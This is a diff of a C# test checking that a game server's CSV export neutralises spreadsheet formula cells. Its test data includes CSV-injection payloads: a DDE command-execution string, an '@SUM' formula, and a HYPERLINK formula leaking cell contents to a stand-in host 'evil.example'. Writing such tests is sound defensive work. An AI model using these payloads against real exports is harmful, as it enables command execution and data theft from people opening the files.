@@ -12,10 +12,10 @@ public sealed class CsvExportTests(SharedServer shared) : IClassFixture<SharedSe
     public async Task Cells_that_would_start_a_formula_are_neutralised_and_verdicts_stay_numbers()
     {
         var session = await _server.CreateSessionAsync("bakery-egg-tart-en");
-        var code = session.GetProperty("joinCode").GetString()!;
+        var code = session.JoinCode;
         await using var clerk = await Player.JoinAsync(_server, code, "=cmd|' /C calc'!A0", "clerk");
         await using var customer = await Player.JoinAsync(_server, code, "@SUM(A1)", "customer");
-        await _server.StartSessionAsync(session.GetProperty("sessionId").GetString()!);
+        await _server.StartSessionAsync(session.SessionId);
         string[] lines =
         [
             "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
@@ -36,6 +36,7 @@ public sealed class CsvExportTests(SharedServer shared) : IClassFixture<SharedSe
         for (var i = 0; i < lines.Length; i++)
         {
             Assert.Equal("'" + lines[i], rows[i]["text"]);
+            Assert.Equal("say", rows[i]["kind"]); // the transcript's word, as in its JSON
         }
 
         var dangerous = new[] { '=', '+', '-', '@', '\t', '\r' };
